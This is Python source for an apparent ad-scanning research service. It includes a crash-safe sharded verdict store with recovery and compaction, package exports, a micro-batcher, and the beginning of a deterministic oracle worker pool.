                # over whatever the caller's config says.
                self.config.n_shards = int(data["n_shards"])
                return
        elif (inferred := self._infer_n_shards()) is not None:
            # Shards without a manifest: the manifest itself was the
            # crash casualty.  Same rebuild path.
            self.config.n_shards = inferred
            self.recovery.manifest_rebuilt += 1
        payload = json.dumps({
            "version": FORMAT_VERSION,
            "kind": "verdict_store",
            "n_shards": self.config.n_shards,
        }, sort_keys=True).encode("utf-8") + b"\n"
        tmp = str(manifest) + TMP_SUFFIX
        self._fs.write_bytes(tmp, payload)
        self._fs.fsync(tmp)
        self._fs.replace(tmp, manifest)

    def _infer_n_shards(self) -> Optional[int]:
        """Shard count as witnessed by existing ``shard-NN`` directories."""
        highest = None
        for name in self._fs.listdir(self.root):
            if name.startswith("shard-"):
                try:
                    number = int(name[6:])
                except ValueError:
                    continue
                highest = number if highest is None else max(highest, number)
        return None if highest is None else highest + 1

    # -- recovery ------------------------------------------------------------

    def _recover(self) -> None:
        if self._try_fast_open():
            return
        for shard in self._shards:
            self._fs.mkdir(shard.directory)
            replay: list[tuple[str, _IndexEntry]] = []
            open_candidates: list[tuple[int, str]] = []
            for name in self._fs.listdir(shard.directory):
                path = str(Path(shard.directory) / name)
                if name.endswith(TMP_SUFFIX):
                    self._fs.remove(path)
                    self.recovery.tmp_cleaned += 1
                    continue
                seg_no = _segment_number(name)
                if seg_no is None:
                    continue  # foreign file; leave it alone
                shard.next_segment = max(shard.next_segment, seg_no + 1)
                if name.endswith(SEALED_SUFFIX):
                    replay.extend(self._recover_sealed(shard, path))
                elif name.endswith(OPEN_SUFFIX):
                    open_candidates.append((seg_no, path))
            # At most one segment stays active; any extra .open files
            # (a crash straddling a rollover) are recovered and sealed.
            open_candidates.sort()
            for seg_no, path in open_candidates[:-1]:
                replay.extend(self._recover_open(shard, path, resume=False))
            if open_candidates:
                replay.extend(
                    self._recover_open(shard, open_candidates[-1][1],
                                       resume=True))
            self._replay(shard, replay)

    def _try_fast_open(self) -> bool:
        """Warm open from sidecars alone; ``False`` means full replay.

        Eligibility is strict: the manifest must not have been rebuilt,
        no shard may hold an ``.open`` or ``.tmp`` file (i.e. the last
        shutdown was clean), and every sealed segment needs a sidecar
        that decodes, matches the segment's byte size, and was built
        under this store's bloom geometry.  Validation is two-phase —
        nothing is committed until every shard has passed — so a
        ``False`` return leaves the store untouched for the replay path.

        The trust model matches sealed segments: the sidecar's own
        checksum is verified here, while record bytes are re-verified
        against their checksums at :meth:`get` time (rot is served as a
        miss, never as data).  :meth:`fsck` and full replay remain the
        thorough paths.
        """
        if not self.config.fast_open or self.recovery.manifest_rebuilt:
            return False
        n_bits = self._bloom.n_bits
        validated: list[tuple[_Shard, list[tuple[int, str, dict]]]] = []
        for shard in self._shards:
            self._fs.mkdir(shard.directory)
            segments: list[tuple[int, str, dict]] = []
            for name in self._fs.listdir(shard.directory):
                if name.endswith(TMP_SUFFIX) or name.endswith(OPEN_SUFFIX):
                    return False  # repair work exists; replay handles it
                seg_no = _segment_number(name)
                if seg_no is None:
                    continue  # sidecars themselves, foreign files
                path = str(Path(shard.directory) / name)
                try:
                    side = decode_sidecar(
                        self._fs.read_bytes(sidecar_path(path)))
                    size = self._fs.size(path)
                except (OSError, SegmentError):
                    return False
                if (side["segment"] != name
                        or side["segment_bytes"] != size
                        or side["bloom_bits"] != n_bits
                        or side["bloom_hashes"] != self._bloom.n_hashes
                        or (side["bloom"] and max(side["bloom"]) >= n_bits)):
                    return False
                segments.append((seg_no, path, side))
            validated.append((shard, segments))
        # Commit: every sidecar verified.  Build the index with the same
        # seq-ordered, duplicate-skipping, latest-wins discipline as
        # :meth:`_replay` — without reading a single segment file — and
        # OR the sidecars' sparse bit positions straight into the bloom
        # instead of re-hashing every key.
        bits = self._bloom._bits
        for shard, segments in validated:
            replay: list[tuple[str, _IndexEntry]] = []
            for seg_no, path, side in segments:
                shard.next_segment = max(shard.next_segment, seg_no + 1)
                segment = _SegmentFile(path)
                shard.sealed_files.append(segment)
                for h, offset, length, seq, checksum in side["records"]:
                    replay.append((h, _IndexEntry(segment, offset, length,
                                                  seq, checksum)))
                for position in side["bloom"]:
                    bits[position >> 3] |= 1 << (position & 7)
                self.recovery.sidecars_used += 1
            replay.sort(key=lambda item: (item[1].seq, item[0]))
            seen_seqs: set[int] = set()
            for content_hash, entry in replay:
                if entry.seq in seen_seqs:
                    self.recovery.duplicates_skipped += 1
                    continue
                seen_seqs.add(entry.seq)
                if content_hash in self._index:
                    self.superseded += 1
                self._index[content_hash] = entry
                self.recovery.records_replayed += 1
                shard.next_seq = max(shard.next_seq, entry.seq + 1)
        # Sidecar positions cover every record ever sealed (superseded
        # keys included) — a superset of replay's live-only adds, which
        # costs a few extra set bits and nothing else.  n_added only
        # feeds the fp-rate estimate, so the live count is the honest
        # figure.
        self._bloom.n_added = len(self._index)
        self.recovery.fast_open = 1
        return True

    def _recover_sealed(self, shard: _Shard,
                        path: str) -> list[tuple[str, _IndexEntry]]:
        scan = scan_segment(self._fs.read_bytes(path), path, sealed=True)
        self.recovery.segments_scanned += 1
        if scan.corrupt:
            self.recovery.quarantined_records += len(scan.corrupt)
            self._quarantine(path, scan.corrupt)
        if not scan.seal_valid:
            self.recovery.invalid_seals += 1
        segment = _SegmentFile(path)
        shard.sealed_files.append(segment)
        if scan.seal_valid and not scan.corrupt:
            # Full replay self-heals: a segment that verified end-to-end
            # earns a fresh sidecar, so the *next* open can be fast.
            if self._heal_sidecar(path, scan) != "fresh":
                self.recovery.sidecars_healed += 1
        else:
            # A damaged segment must never be fast-opened from a sidecar
            # that no longer tells the truth about it.
            try:
                self._fs.remove(sidecar_path(path))
            except OSError:
                pass
        return [(h, _IndexEntry(segment, r.offset, r.length, r.seq,
                                r.checksum))
                for h, r in scan.records]

    def _heal_sidecar(self, path: str, scan: SegmentScan) -> str:
        """Ensure a verified sealed segment's sidecar is fresh.

        Returns ``"fresh"``, ``"stale"`` or ``"missing"``; a non-fresh
        sidecar is rewritten from the scan (best-effort).
        """
        checksums = [r.checksum for _, r in scan.records]
        seal = seal_checksum(checksums)
        state = "missing"
        try:
            side = decode_sidecar(self._fs.read_bytes(sidecar_path(path)))
        except OSError:
            side = None
        except SegmentError:
            side = None
            state = "stale"
        if side is not None:
            if (side.get("seal") == seal
                    and side.get("segment_bytes") == scan.size
                    and side.get("bloom_bits") == self._bloom.n_bits
                    and side.get("bloom_hashes") == self._bloom.n_hashes):
                return "fresh"
            state = "stale"
        self._write_sidecar(
            path, checksums,
            [[h, r.offset, r.length, r.seq, r.checksum]
             for h, r in scan.records])
        return state

    def _recover_open(self, shard: _Shard, path: str,
                      resume: bool) -> list[tuple[str, _IndexEntry]]:
        scan = scan_segment(self._fs.read_bytes(path), path, sealed=False)
        self.recovery.segments_scanned += 1
        if scan.torn_at is not None:
            self._fs.truncate(path, scan.torn_at)
            self.recovery.truncated_tails += 1
            self.recovery.bytes_discarded += scan.bytes_torn
        segment = _SegmentFile(path)
        checksums = [r.checksum for _, r in scan.records]
        entries = [[h, r.offset, r.length, r.seq, r.checksum]
                   for h, r in scan.records]
        if scan.footer_at is not None and scan.seal_valid:
            # Sealed but never renamed: finish the commit now.
            sealed_path = path[: -len(OPEN_SUFFIX)] + SEALED_SUFFIX
            self._fs.replace(path, sealed_path)
            segment.path = sealed_path
            shard.sealed_files.append(segment)
            self.recovery.late_seals += 1
            self._write_sidecar(sealed_path, checksums, entries)
        elif not resume:
            self._seal(shard, segment, checksums, entries)
        else:
            if scan.footer_at is not None:
                # A footer that does not verify is damage; drop it and
                # keep the segment open at its verified prefix.
                self._fs.truncate(path, scan.footer_at)
            shard.active_file = segment
            shard.active_records = len(scan.records)
            shard.active_checksums = checksums
            shard.active_entries = entries
            shard.active_length = (scan.footer_at
                                   if scan.footer_at is not None else
                                   (scan.torn_at if scan.torn_at is not None
                                    else scan.size))
        return [(h, _IndexEntry(segment, r.offset, r.length, r.seq,
                                r.checksum))
                for h, r in scan.records]

    def _replay(self, shard: _Shard,
                replay: list[tuple[str, _IndexEntry]]) -> None:
        """Rebuild the shard's index slice by replaying records in seq
        order — deterministic whatever order the files were scanned in."""
        replay.sort(key=lambda item: (item[1].seq, item[0]))
        seen_seqs: set[int] = set()
        for content_hash, entry in replay:
            if entry.seq in seen_seqs:
                # The same record survives in a pre-compaction segment
                # AND its compacted copy; the bytes are identical.
                self.recovery.duplicates_skipped += 1
                continue
            seen_seqs.add(entry.seq)
            if content_hash in self._index:
                self.superseded += 1
            self._index[content_hash] = entry
            self.recovery.records_replayed += 1
            shard.next_seq = max(shard.next_seq, entry.seq + 1)
        for content_hash, entry in replay:
            if self._index.get(content_hash) is entry:
                self._bloom.add(content_hash)

    def _quarantine(self, path: str, corrupt: list[tuple[int, bytes]]) -> None:
        """Preserve corrupt lines for post-mortem; never let the attempt
        itself take recovery down."""
        rows = []
        for offset, line in corrupt:
            rows.append(json.dumps({
                "version": FORMAT_VERSION,
                "kind": "quarantine",
                "segment": path,
                "offset": offset,
                "line": base64.b64encode(line).decode("ascii"),
            }, sort_keys=True))
        payload = ("\n".join(rows) + "\n").encode("utf-8")
        try:
            self._fs.append(str(self.root / QUARANTINE_NAME), payload)
        except OSError:
            pass

    # -- the data path -------------------------------------------------------

    def get(self, content_hash: str) -> Optional[AdVerdict]:
        """The stored verdict for a creative, or ``None``.

        Never-seen keys — the dominant case online — cost one bloom
        probe and no I/O.  Hits read exactly one record back from its
        segment and re-verify its checksum; a record that fails
        verification at read time (disk rot after recovery) is treated
        as a miss and counted, never served.
        """
        with self._lock:
            self.probes += 1
            if content_hash not in self._bloom:
                self.bloom_negatives += 1
                return None
            entry = self._index.get(content_hash)
            if entry is None:
                self.bloom_false_positives += 1
                return None
            try:
                data = self._fs.read_at(entry.segment.path, entry.offset,
                                        entry.length)
                self.segment_reads += 1
                row = decode_record(data)
                if row["kind"] != "verdict" or \
                        row["content_hash"] != content_hash:
                    raise SegmentError("record does not match its index")
                verdict = verdict_from_dict(row["verdict"])
            except (OSError, SegmentError, KeyError, TypeError, ValueError):
                self.read_errors += 1
                return None
            self.hits += 1
            return verdict

    def put(self, content_hash: str, verdict: AdVerdict) -> None:
        """Append one verdict durably (fsync per ``fsync_every``).

        Raises :class:`StoreWriteError` if the append could not land
        (disk full, torn write); the active segment is repaired back to
        its last good byte first, so a failed put leaves no trace.
        """
        row = verdict_to_dict(verdict)
        with self._lock:
            if self._closed:
                raise StoreError("verdict store is closed")
            shard = self._shards[self._shard_of(content_hash)]
            seq = shard.next_seq
            checksum = record_checksum(content_hash, seq, row)
            line = encode_record(content_hash, seq, row, checksum=checksum)
            if shard.active_file is None:
                self._open_segment(shard)
            segment = shard.active_file
            try:
                offset = self._fs.append(segment.path, line)
            except OSError as exc:
                self.write_errors += 1
                self._repair_active(shard)
                raise StoreWriteError(
                    f"verdict append failed for {content_hash[:12]}…: "
                    f"{exc}") from exc
            shard.next_seq = seq + 1
            shard.active_records += 1
            shard.active_checksums.append(checksum)
            shard.active_entries.append(
                [content_hash, offset, len(line), seq, checksum])
            shard.active_length += len(line)
            shard.unsynced += 1
            if shard.unsynced >= self.config.fsync_every:
                self._fs.fsync(segment.path)
                shard.unsynced = 0
            if content_hash in self._index:
                self.superseded += 1
            self._index[content_hash] = _IndexEntry(
                segment, offset, len(line), seq, checksum)
            self._bloom.add(content_hash)
            self.appends += 1
            if shard.active_records >= self.config.segment_max_records:
                self._seal_active(shard)

    def __contains__(self, content_hash: str) -> bool:
        with self._lock:
            return content_hash in self._index

    def __len__(self) -> int:
        with self._lock:
            return len(self._index)

    def keys(self) -> list[str]:
        with self._lock:
            return sorted(self._index)

    # -- segment lifecycle ---------------------------------------------------

    def _open_segment(self, shard: _Shard) -> None:
        name = f"seg-{shard.next_segment:06d}{OPEN_SUFFIX}"
        shard.next_segment += 1
        shard.active_file = _SegmentFile(str(Path(shard.directory) / name))
        shard.active_records = 0
        shard.active_checksums = []
        shard.active_entries = []
        shard.active_length = 0
        shard.unsynced = 0

    def _repair_active(self, shard: _Shard) -> None:
        """Truncate the active segment back to its last good byte."""
        segment = shard.active_file
        if segment is None or not self._fs.exists(segment.path):
            return
        try:
            if self._fs.size(segment.path) > shard.active_length:
                self._fs.truncate(segment.path, shard.active_length)
        except OSError:
            # Cannot repair in place: abandon the segment (recovery will
            # truncate its tail) and roll over to a fresh one.
            self._seal_active(shard, best_effort=True)
            shard.active_file = None

    def _seal_active(self, shard: _Shard, best_effort: bool = False) -> None:
        segment = shard.active_file
        if segment is None or shard.active_records == 0:
            return
        try:
            self._seal(shard, segment, shard.active_checksums,
                       shard.active_entries)
        except OSError:
            self.seal_failures += 1
            if not best_effort:
                # The footer could not land; the segment simply stays
                # open and recovery (or a later seal) finishes the job.
                return
        shard.active_file = None
        shard.active_records = 0
        shard.active_checksums = []
        shard.active_entries = []
        shard.active_length = 0
        shard.unsynced = 0

    def _seal(self, shard: _Shard, segment: _SegmentFile,
              checksums: list[str],
              entries: Optional[list[list]] = None) -> None:
        """Footer → fsync → rename: the append-only commit point."""
        footer = encode_seal(checksums)
        self._fs.append(segment.path, footer)
        self._fs.fsync(segment.path)
        sealed_path = segment.path[: -len(OPEN_SUFFIX)] + SEALED_SUFFIX
        self._fs.replace(segment.path, sealed_path)
        segment.path = sealed_path
        shard.sealed_files.append(segment)
        self.seals += 1
        if entries is not None:
            self._write_sidecar(sealed_path, checksums, entries)

    def _write_sidecar(self, sealed_path: str, checksums: list[str],
                       entries: list[list]) -> None:
        """Persist a sealed segment's bloom/index sidecar (best-effort).

        Failures are swallowed on purpose: the sidecar is a pure
        accelerator, a missing one merely costs the next open a full
        replay, and raising here would fail a seal whose commit point
        (the rename) has already passed.
        """
        try:
            positions: set[int] = set()
            for row in entries:
                positions.update(self._bloom._positions(row[0]))
            data = encode_sidecar(
                Path(sealed_path).name,
                self._fs.size(sealed_path),
                seal_checksum(checksums),
                entries,
                sorted(positions),
                self._bloom.n_bits,
                self._bloom.n_hashes,
            )
            target = sidecar_path(sealed_path)
            tmp = target + TMP_SUFFIX
            self._fs.write_bytes(tmp, data)
            self._fs.fsync(tmp)
            self._fs.replace(tmp, target)
            self.sidecar_writes += 1
        except OSError:
            self.sidecar_write_failures += 1

    # -- compaction ----------------------------------------------------------

    def compact(self) -> CompactionReport:
        """Fold each shard's sealed segments into one fresh sealed segment.

        Superseded records are dropped; surviving records keep their
        exact original bytes (hash, seq, verdict, checksum), so the
        store fingerprint is unchanged.  The fold is crash-safe at every
        point: the new segment is written to a temp file and renamed in
        atomically *before* the folded segments are removed, and
        recovery's seq-ordered replay dedups whatever a crash leaves
        doubled.
        """
        report = CompactionReport()
        with self._lock:
            if self._closed:
                raise StoreError("verdict store is closed")
            for shard in self._shards:
                self._compact_shard(shard, report)
            self.compactions += 1
        return report

    def _compact_shard(self, shard: _Shard, report: CompactionReport) -> None:
        folded = list(shard.sealed_files)
        if not folded:
            return
        live: list[tuple[str, _IndexEntry]] = [
            (h, e) for h, e in self._index.items()
            if e.segment in folded]
        live.sort(key=lambda item: item[1].seq)
        total_records = 0
        scans: list[SegmentScan] = []
        for segment in folded:
            scan = scan_segment(self._fs.read_bytes(segment.path),
                                segment.path, sealed=True)
            scans.append(scan)
            total_records += len(scan.records)
        dead = total_records - len(live)
        if len(folded) == 1 and dead == 0:
            # Already one fully-live sealed segment — but compaction
            # still guarantees a fresh sidecar so the next open is fast.
            if scans[0].seal_valid and not scans[0].corrupt:
                self._heal_sidecar(folded[0].path, scans[0])
            return
        # Re-materialise the surviving records byte-for-byte.
        chunks: list[bytes] = []
        checksums: list[str] = []
        new_entries: list[tuple[str, int, int, _IndexEntry]] = []
        offset = 0
        for content_hash, entry in live:
            data = self._fs.read_at(entry.segment.path, entry.offset,
                                    entry.length)
            self.segment_reads += 1
            chunks.append(data)
            checksums.append(entry.checksum)
            new_entries.append((content_hash, offset, len(data), entry))
            offset += len(data)
        body = b"".join(chunks) + encode_seal(checksums)
        seg_no = shard.next_segment
        shard.next_segment += 1
        final = str(Path(shard.directory) / f"seg-{seg_no:06d}{SEALED_SUFFIX}")
        tmp = final + TMP_SUFFIX
        self._fs.write_bytes(tmp, body)
        self._fs.fsync(tmp)
        self._fs.replace(tmp, final)
        # The commit point has passed: retarget the index, then clean up.
        new_segment = _SegmentFile(final)
        for content_hash, new_offset, length, entry in new_entries:
            self._index[content_hash] = _IndexEntry(
                new_segment, new_offset, length, entry.seq, entry.checksum)
        self._write_sidecar(
            final, checksums,
            [[h, off, length, e.seq, e.checksum]
             for h, off, length, e in new_entries])
        for segment in folded:
            try:
                self._fs.remove(segment.path)
            except OSError:
                report.remove_failures += 1
            try:
                self._fs.remove(sidecar_path(segment.path))
            except OSError:
                pass  # usually just missing; orphan sidecars are inert
        shard.sealed_files = [new_segment]
        report.shards_compacted += 1
        report.segments_folded += len(folded)
        report.segments_written += 1
        report.records_kept += len(live)
        report.superseded_dropped += dead

    # -- verification --------------------------------------------------------

    def fsck(self) -> FsckReport:
        """Re-read and verify every segment on disk (read-only)."""
        report = FsckReport()
        with self._lock:
            report.shards = len(self._shards)
            report.live_records = len(self._index)
            for shard in self._shards:
                for name in self._fs.listdir(shard.directory):
                    path = str(Path(shard.directory) / name)
                    if _segment_number(name) is None:
                        continue
                    sealed = name.endswith(SEALED_SUFFIX)
                    if not sealed and not name.endswith(OPEN_SUFFIX):
                        continue
                    scan = scan_segment(self._fs.read_bytes(path), path,
                                        sealed=sealed)
                    report.records += len(scan.records)
                    if sealed:
                        report.sealed_segments += 1
                        report.corrupt_records += len(scan.corrupt)
                        if not scan.seal_valid:
                            report.invalid_seals += 1
                            report.problems.append(
                                f"{path}: seal footer does not verify")
                        for offset, _ in scan.corrupt:
                            report.problems.append(
                                f"{path}: corrupt record at byte {offset}")
                        self._fsck_sidecar(path, scan, report)
                    else:
                        report.open_segments += 1
                        if scan.torn_at is not None:
                            report.torn_tails += 1
                            report.torn_bytes += scan.bytes_torn
                            report.problems.append(
                                f"{path}: torn tail at byte {scan.torn_at} "
                                f"({scan.bytes_torn} bytes)")
        return report

    def _fsck_sidecar(self, path: str, scan: SegmentScan,
                      report: FsckReport) -> None:
        """Verify one sealed segment's sidecar against the segment just
        scanned (sidecar problems are reported but never unclean — see
        :class:`FsckReport`)."""
        try:
            raw = self._fs.read_bytes(sidecar_path(path))
        except OSError:
            report.sidecars_missing += 1
            report.problems.append(
                f"{path}: no sidecar (next open replays this segment)")
            return
        try:
            side = decode_sidecar(raw)
        except SegmentError as exc:
            report.sidecars_corrupt += 1
            report.problems.append(f"{path}: corrupt sidecar: {exc}")
            return
        seal = seal_checksum([r.checksum for _, r in scan.records])
        if (side.get("seal") != seal
                or side.get("segment_bytes") != scan.size
                or side.get("bloom_bits") != self._bloom.n_bits
                or side.get("bloom_hashes") != self._bloom.n_hashes):
            report.sidecars_stale += 1
            report.problems.append(
                f"{path}: stale sidecar (segment changed since it was "
                f"written)")
        else:
            report.sidecars_ok += 1

    def fingerprint(self) -> str:
        """A stable hash over the live index (hash, seq, checksum).

        Bit-identical across recovery replays and compactions of the
        same logical contents — the invariant the crash/compaction
        differential tests assert.
        """
        with self._lock:
            rows = [(h, e.seq, e.checksum)
                    for h, e in sorted(self._index.items())]
        canonical = json.dumps(rows, separators=(",", ":"))
        return hashlib.sha256(canonical.encode("utf-8")).hexdigest()

    # -- lifecycle -----------------------------------------------------------

    def close(self) -> None:
        """Seal active segments and fsync; idempotent.

        A closed store's directory holds only sealed segments, so the
        next open replays with zero truncations — the clean-shutdown
        fast path.
        """
        with self._lock:
            if self._closed:
                return
            for shard in self._shards:
                if shard.unsynced and shard.active_file is not None:
                    try:
                        self._fs.fsync(shard.active_file.path)
                        shard.unsynced = 0
                    except OSError:
                        pass
                self._seal_active(shard)
            self._closed = True

    def __enter__(self) -> "VerdictStore":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    # -- introspection -------------------------------------------------------

    def _shard_of(self, content_hash: str) -> int:
        digest = hashlib.sha256(content_hash.encode("utf-8")).digest()
        return int.from_bytes(digest[:4], "big") % len(self._shards)

    def stats(self) -> dict:
        with self._lock:
            sealed = sum(len(s.sealed_files) for s in self._shards)
            open_segments = sum(1 for s in self._shards
                                if s.active_file is not None)
            misses = self.bloom_negatives + self.bloom_false_positives \
                + self.read_errors
            return {
                "root": str(self.root),
                "n_shards": len(self._shards),
                "records": len(self._index),
                "segments": {"sealed": sealed, "open": open_segments},
                "appends": self.appends,
                "seals": self.seals,
                "seal_failures": self.seal_failures,
                "write_errors": self.write_errors,
                "superseded": self.superseded,
                "probes": self.probes,
                "hits": self.hits,
                "misses": misses,
                "segment_reads": self.segment_reads,
                "read_errors": self.read_errors,
                "compactions": self.compactions,
                "sidecar_writes": self.sidecar_writes,
                "sidecar_write_failures": self.sidecar_write_failures,
                "bloom": {
                    "negatives": self.bloom_negatives,
                    "false_positives": self.bloom_false_positives,
                    "n_bits": self._bloom.n_bits,
                    "n_hashes": self._bloom.n_hashes,
                    "n_added": self._bloom.n_added,
                    # Fraction of probes the bloom front answered with
                    # zero index/segment work.
                    "hit_ratio": (self.bloom_negatives / self.probes
                                  if self.probes else 0.0),
                    "estimated_fp_rate": self._bloom.estimated_fp_rate,
                },
                "recovery": self.recovery.to_dict(),
            }


def _segment_number(name: str) -> Optional[int]:
    """``seg-000042.jsonl`` → 42; None for anything else."""
    stem, _, suffix = name.partition(".")
    if "." + suffix not in (SEALED_SUFFIX, OPEN_SUFFIX):
        return None
    if not stem.startswith("seg-"):
        return None
    try:
        return int(stem[4:])
    except ValueError:
        return None
