"""Crash-safe persistent verdict storage.

The durable tier under the scan service's in-memory verdict cache: a
content-hash-sharded, append-only segment store
(:class:`~repro.store.store.VerdictStore`) with checksummed records,
sealed-segment footers, deterministic crash recovery, background
compaction, and a bloom-filter front that answers never-seen probes with
zero I/O.  See :mod:`repro.store.segment` for the on-disk format and
:mod:`repro.store.store` for the recovery and compaction protocols.
"""

from repro.store.segment import (
    OPEN_SUFFIX,
    SEALED_SUFFIX,
    SIDECAR_SUFFIX,
    TMP_SUFFIX,
    RecordRef,
    SegmentError,
    SegmentScan,
    decode_record,
    decode_sidecar,
    encode_record,
    encode_seal,
    encode_sidecar,
    record_checksum,
    scan_segment,
    seal_checksum,
    sidecar_path,
)
from repro.store.store import (
    CompactionReport,
    FsckReport,
    RecoveryReport,
    StoreConfig,
    StoreError,
    StoreWriteError,
    VerdictStore,
)

__all__ = [
    "CompactionReport",
    "FsckReport",
    "OPEN_SUFFIX",
    "RecordRef",
    "RecoveryReport",
    "SEALED_SUFFIX",
    "SIDECAR_SUFFIX",
    "SegmentError",
    "SegmentScan",
    "StoreConfig",
    "StoreError",
    "StoreWriteError",
    "TMP_SUFFIX",
    "VerdictStore",
    "decode_record",
    "decode_sidecar",
    "encode_record",
    "encode_seal",
    "encode_sidecar",
    "record_checksum",
    "scan_segment",
    "seal_checksum",
    "sidecar_path",
]
