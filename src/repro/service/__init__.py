"""The online ad-scanning service.

Wraps the batch :class:`~repro.core.oracle.CombinedOracle` as a serving
system: bounded ingest queue with backpressure, content-hash verdict
cache (LRU + TTL), micro-batching, a deterministic thread worker pool,
and a metrics registry — composed by :class:`ScanService`.
"""

from repro.service.autoscaler import Autoscaler, AutoscalerConfig, ScaleEvent
from repro.service.batcher import MicroBatcher
from repro.service.breaker import (
    BreakerOpenError,
    CircuitBreaker,
    DeadLetter,
    DeadLetterLog,
)
from repro.service.cache import VerdictCache
from repro.service.metrics import Counter, Gauge, Histogram, MetricsRegistry
from repro.service.queue import (
    IngestQueue,
    QueueClosedError,
    QueueFullError,
)
from repro.service.service import (
    AttachedTicket,
    ScanService,
    ScanTicket,
    ServiceConfig,
    ServiceDegradedError,
    sighting_record,
)
from repro.service.streaming import StreamingCorpus, stream_crawl
from repro.service.workers import (
    OracleWorkerPool,
    ScanTask,
    ScanWorker,
    WorkerCrashed,
    hermetic_judge,
)

__all__ = [
    "AttachedTicket",
    "Autoscaler",
    "AutoscalerConfig",
    "ScaleEvent",
    "WorkerCrashed",
    "BreakerOpenError",
    "CircuitBreaker",
    "Counter",
    "DeadLetter",
    "DeadLetterLog",
    "Gauge",
    "Histogram",
    "IngestQueue",
    "MetricsRegistry",
    "MicroBatcher",
    "OracleWorkerPool",
    "QueueClosedError",
    "QueueFullError",
    "ScanService",
    "ScanTask",
    "ScanTicket",
    "ScanWorker",
    "ServiceConfig",
    "ServiceDegradedError",
    "StreamingCorpus",
    "VerdictCache",
    "hermetic_judge",
    "sighting_record",
    "stream_crawl",
]
