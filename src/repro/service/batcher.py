"""Micro-batching: coalesce queued submissions into oracle batches.

Honeyclient scans dominate service cost, but each scan also carries fixed
per-dispatch overhead (queue handoff, worker wakeup, metrics).  The
micro-batcher amortises it the way online inference services do: a batch
is released when it reaches ``max_size`` items **or** when ``max_delay``
seconds have passed since its first item arrived — so a busy service
scans in full batches while a trickle of traffic still sees bounded
latency.
"""

from __future__ import annotations

import threading
import time
from typing import Any, Callable, Optional

from repro.service.queue import IngestQueue


class MicroBatcher:
    """Assemble size- or deadline-triggered batches from an ingest queue.

    Thread-safe: multiple workers may call :meth:`next_batch` concurrently;
    an internal lock ensures each batch is assembled by exactly one caller,
    so items are never interleaved into two batches out of order.
    """

    def __init__(
        self,
        queue: IngestQueue,
        max_size: int = 8,
        max_delay: float = 0.05,
        clock: Optional[Callable[[], float]] = None,
    ) -> None:
        if max_size <= 0:
            raise ValueError("max_size must be positive")
        if max_delay < 0:
            raise ValueError("max_delay must be non-negative")
        self.queue = queue
        self.max_size = max_size
        self.max_delay = max_delay
        self._clock = clock or time.monotonic
        self._assembly_lock = threading.Lock()
        self.batches = 0
        self.size_flushes = 0
        self.deadline_flushes = 0

    def next_batch(self, timeout: Optional[float] = None) -> Optional[list]:
        """Block until one batch is ready; ``None`` once the queue is done.

        The first item opens the batch and starts the deadline clock; the
        batch closes on whichever comes first of ``max_size`` items or the
        deadline.  Queue closure flushes whatever was collected.

        With ``timeout`` the wait for the *first* item is bounded: an
        empty list comes back when nothing arrived in time and the queue
        is still open.  Elastic pools feed workers through this timed
        form so an idle worker periodically surfaces to check for
        retirement instead of blocking forever in the queue.
        """
        with self._assembly_lock:
            first = self.queue.get(timeout=timeout)
            if first is None:
                if timeout is not None and not self.queue.closed:
                    return []
                return None
            batch: list[Any] = [first]
            deadline = self._clock() + self.max_delay
            flushed_by = "deadline"
            while len(batch) < self.max_size:
                remaining = deadline - self._clock()
                if remaining <= 0:
                    break
                item = self.queue.get(timeout=remaining)
                if item is None:
                    break
                batch.append(item)
            if len(batch) >= self.max_size:
                flushed_by = "size"
            self.batches += 1
            if flushed_by == "size":
                self.size_flushes += 1
            else:
                self.deadline_flushes += 1
            return batch

    def stats(self) -> dict:
        return {
            "batches": self.batches,
            "size_flushes": self.size_flushes,
            "deadline_flushes": self.deadline_flushes,
            "max_size": self.max_size,
            "max_delay": self.max_delay,
        }
