"""The oracle worker pool: threaded, isolated, deterministic, elastic.

Every worker owns a **complete private copy** of the scanning stack — its
own simulated world built from the service seed plus its own
:class:`~repro.core.oracle.CombinedOracle` — so concurrent scans share no
mutable state at all (the simulated web's servers, the Wepawet sample
registry and the HAR observer list are all per-world).

Determinism is the second half of the contract.  Three pieces of scan
state are order-dependent in the batch pipeline: the ecosystem's
per-request counter (cloaking rotation), the Wepawet sample counter, and
the browser's script RNG stream.  :func:`hermetic_judge` pins all three
to values derived from the creative's content hash before every scan, so
the verdict for a creative is a pure function of ``(seed, world params,
creative)`` — identical across scan orders, worker counts, and to a
batch :class:`CombinedOracle` pass driven through the same discipline.

Elasticity is the third.  The pool's roster is no longer fixed at
construction: :meth:`OracleWorkerPool.scale_to` grows it by spawning
fresh workers (each building its private stack inside its own thread)
and shrinks it by handing out *retire tokens* that workers claim at
batch boundaries — a retiring worker finishes the batch in its hands,
never abandons a task, and exits cleanly.  Because hermetic judging
makes every verdict independent of worker count, scaling events cannot
perturb a single verdict bit; they only change how fast the queue
drains.  A worker whose thread dies outright (stack construction
failure, a callback raising, :class:`WorkerCrashed` from a chaos hook)
is respawned by the pool while the ``max_restarts`` budget lasts; a
crash that lands while retirement tokens are outstanding satisfies a
token instead of consuming budget, so resize and supervision accounting
compose.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass
from typing import Callable, Optional

from repro.core.oracle import AdVerdict, CombinedOracle
from repro.core.study import Study, StudyConfig
from repro.crawler.corpus import AdRecord
from repro.datasets.world import World, build_world
from repro.service.breaker import BreakerOpenError, CircuitBreaker
from repro.util.rand import fork

# Scan-time counter values start far above anything a crawl mints, so a
# scan's cloaking draws never collide with crawl-time draws.
_SCAN_COUNTER_BASE = 0x4000_0000


def scan_counter_for(content_hash: str) -> int:
    """Canonical per-creative request-counter base (pure in the hash)."""
    return _SCAN_COUNTER_BASE + int(content_hash[:8], 16)


def hermetic_judge(oracle: CombinedOracle, world: World, record: AdRecord,
                   seed: int) -> AdVerdict:
    """Judge ``record`` as a pure function of ``(seed, world, record)``.

    Pins every piece of order-dependent scan state to values derived from
    the creative's content hash, then delegates to ``oracle.judge``.  Use
    this for service workers *and* for the batch baseline they are
    compared against.
    """
    world.ecosystem.seed_request_counter(scan_counter_for(record.content_hash))
    # Sample ids feed the verdict's Wepawet report; derive them from the
    # creative so they match across runs (the counter is pre-increment).
    world.client._wepawet_counter = int(record.content_hash[:6], 16)  # type: ignore[attr-defined]
    oracle.wepawet.browser._script_random = fork(
        seed, f"scan:{record.content_hash}").random
    return oracle.judge(record)


@dataclass
class ScanTask:
    """One unit of worker input: a snapshotted record plus bookkeeping."""

    record: AdRecord
    submitted_at: float
    #: How many scan attempts this task has consumed (across workers).
